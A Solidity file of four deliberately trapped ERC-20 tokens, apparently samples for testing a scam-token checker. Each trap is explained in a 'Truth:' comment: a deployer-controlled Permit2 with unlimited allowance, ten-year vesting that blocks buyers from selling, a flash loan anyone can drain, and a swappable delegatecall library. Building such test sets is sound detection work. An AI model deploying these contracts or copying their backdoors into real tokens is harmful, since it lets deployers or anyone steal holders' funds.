// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @title A lean ERC-20 with permit, as libraries that save gas write it, and traps upon it
/// @dev Seventh look, 30 November 2026, by somebody who had not read how the check works. The base has no owner
abstract contract SeventhLean {
    event Transfer(address indexed from, address indexed to, uint256 amount);
    event Approval(address indexed owner, address indexed spender, uint256 amount);

    bytes32 private constant PERMIT =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _balanceOf;
    mapping(address => mapping(address => uint256)) internal _allowance;
    mapping(address => uint256) public nonces;

    constructor(string memory name_, string memory symbol_, uint256 units) {
        (name, symbol) = (name_, symbol_);
        _mint(msg.sender, units * 1 ether);
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _balanceOf[account];
    }

    function allowance(address holder, address spender) public view virtual returns (uint256) {
        return _allowance[holder][spender];
    }

    function approve(address spender, uint256 amount) public virtual returns (bool) {
        _allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public virtual returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) public virtual returns (bool) {
        uint256 allowed = allowance(from, msg.sender);
        if (allowed != type(uint256).max) _allowance[from][msg.sender] = allowed - amount;
        _move(from, to, amount);
        return true;
    }

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        bytes32 domain =
            keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)");
        return keccak256(abi.encode(domain, keccak256(bytes(name)), keccak256("1"), block.chainid, address(this)));
    }

    function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        require(deadline >= block.timestamp, "PERMIT_DEADLINE_EXPIRED");
        bytes32 data = keccak256(abi.encode(PERMIT, holder, spender, value, nonces[holder]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), data)), v, r, s);
        require(signer != address(0) && signer == holder, "INVALID_SIGNER");
        _allowance[holder][spender] = value;
        emit Approval(holder, spender, value);
    }

    function _move(address from, address to, uint256 amount) internal virtual {
        _balanceOf[from] -= amount;
        // The sum of all balances cannot exceed what fits.
        unchecked {
            _balanceOf[to] += amount;
        }
        emit Transfer(from, to, amount);
    }

    function _mint(address to, uint256 amount) internal virtual {
        totalSupply += amount;
        _balanceOf[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    function _burn(address from, uint256 amount) internal virtual {
        _balanceOf[from] -= amount;
        totalSupply -= amount;
        emit Transfer(from, address(0), amount);
    }
}

interface ISeventhToken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

contract SeventhPermit2 {
    address private immutable _relayer;
    mapping(address => mapping(uint256 => uint256)) public nonceBitmap;

    constructor(address relayer) {
        _relayer = relayer;
    }

    function permitTransferFrom(address token, address from, address to, uint256 amount, uint256 nonce) external {
        require(msg.sender == _relayer, "InvalidSigner");
        nonceBitmap[from][nonce >> 8] |= 1 << (nonce & 255);
        ISeventhToken(token).transferFrom(from, to, amount);
    }
}

/// @dev Truth: one person can rob today. As with some libraries, "Permit2" has an allowance of everybody; but this one
/// was made by the deployer, whose word is enough to it.
contract PermitPlatypus is SeventhLean("Permit Platypus", "PLATY", 1_000_000_000) {
    address public immutable PERMIT2 = address(new SeventhPermit2(msg.sender));

    function allowance(address holder, address spender) public view override returns (uint256) {
        return spender == PERMIT2 ? type(uint256).max : _allowance[holder][spender];
    }
}

/// @dev Truth: a buyer loses at once. What is received vests over ten years, and only what has vested can be passed on:
/// a hundredth of a percent in nine hours.
contract VestedVulture is SeventhLean("Vested Vulture", "VULT", 1_000_000_000) {
    uint256 public constant vestingPeriod = 3_650 days;
    address private immutable _team = msg.sender;
    mapping(address => uint256) private _locked;
    mapping(address => uint256) private _since;

    /// @notice No dumps: strong hands are released second by second
    function lockedOf(address account) public view returns (uint256) {
        uint256 held = block.timestamp - _since[account];
        return held >= vestingPeriod ? 0 : _locked[account] - (_locked[account] * held) / vestingPeriod;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(_balanceOf[from] >= lockedOf(from) + amount, "VESTING");
        if (to.code.length == 0 && from != _team) (_locked[to], _since[to]) = (lockedOf(to) + amount, block.timestamp);
        super._move(from, to, amount);
    }
}

interface ISeventhBorrower {
    function onFlashLoan(uint256 amount, bytes calldata data) external;
}

/// @dev Truth: anybody can rob today. A flash loan is burnt from its borrower as far as it is still there.
contract FlashFerret is SeventhLean("Flash Ferret", "FLASH", 1_000_000_000) {
    event FlashLoan(address indexed borrower, uint256 amount);

    function maxFlashLoan() public view returns (uint256) {
        return type(uint128).max - totalSupply;
    }

    function flashLoan(ISeventhBorrower borrower, uint256 amount, bytes calldata data) external {
        require(amount <= maxFlashLoan(), "MAX");
        _mint(address(borrower), amount);
        borrower.onFlashLoan(amount, data);
        uint256 left = _balanceOf[address(borrower)];
        _burn(address(borrower), left < amount ? left : amount);
        emit FlashLoan(address(borrower), amount);
    }
}

/// @dev Truth: one person can rob today. The sums of a transfer are done by a library that the librarian may exchange,
/// and what it does, it does upon the token's own storage.
contract LibraryLemur is SeventhLean("Library Lemur", "LEMUR", 1_000_000_000) {
    address private _librarian = msg.sender;
    address public mathLibrary = address(new SeventhMath());

    function setMathLibrary(address newLibrary) external {
        require(msg.sender == _librarian && newLibrary.code.length > 0, "LIBRARIAN");
        mathLibrary = newLibrary;
    }

    function _move(address from, address to, uint256 amount) internal override {
        (bool isDone, bytes memory sum) = mathLibrary.delegatecall(abi.encodeCall(SeventhMath.burnOf, (amount)));
        require(isDone, "MATH");
        uint256 burnt = abi.decode(sum, (uint256));
        if (burnt > 0) _burn(from, burnt);
        super._move(from, to, amount - burnt);
    }
}

contract SeventhMath {
    /// @notice Half a percent of each transfer goes up in smoke
    function burnOf(uint256 amount) external pure returns (uint256) {
        return amount / 200;
    }
}
